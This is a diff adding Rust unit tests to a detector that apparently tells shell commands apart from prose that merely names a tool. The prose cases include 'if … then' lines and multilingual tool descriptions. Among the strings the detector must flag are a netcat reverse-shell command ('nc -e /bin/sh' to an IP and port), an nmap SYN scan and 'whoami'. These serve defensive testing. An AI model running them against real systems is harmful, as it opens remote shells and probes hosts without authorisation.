@@ -1026,9 +1026,14 @@ fn windows_if_with_quoted_operands() {
         "if \"it rains\" we stay in",
         "if (\"a b\" == x) {",
         "If \"A A\" is equal to \"A A\", say so",
+        // BASIC's, Lua's or a sentence's `if … then`: cmd has no command `then`.
+        "if x == 72 then a = 62",
+        "IF b == 97 THEN k = 83",
     ] {
         assert!(!hit(v), "flagged {v:?}");
     }
+    // cmd's own variables keep the line cmd's.
+    assert!(hit("if %x% == 72 then whoami"), "missed");
 }
 
 #[test]
@@ -1337,5 +1342,24 @@ fn powershell_aliases_to_code_execution() {
         "Sal x iex-like names",
     ] {
         assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn a_tool_named_before_prose_in_another_language_is_a_mention() {
+    for v in [
+        "Interaktywna przeglądarka procesów\nHtop jest przeglądarką procesów opartą na ncursed",
+        "十六进制转储工具\nxxd 能创建指定文件或标准输入的十六进制转储",
+        "Mapeador de Rede\nNmap é um utilitário para exploração de rede",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        "x\nnmap -sS 10.0.0.1",
+        "a\nwhoami",
+        "x\nnc -e /bin/sh 10.0.0.1 4444",
+        "x\nhtop",
+    ] {
+        assert!(hit(v), "missed {v:?}");
     }
 }
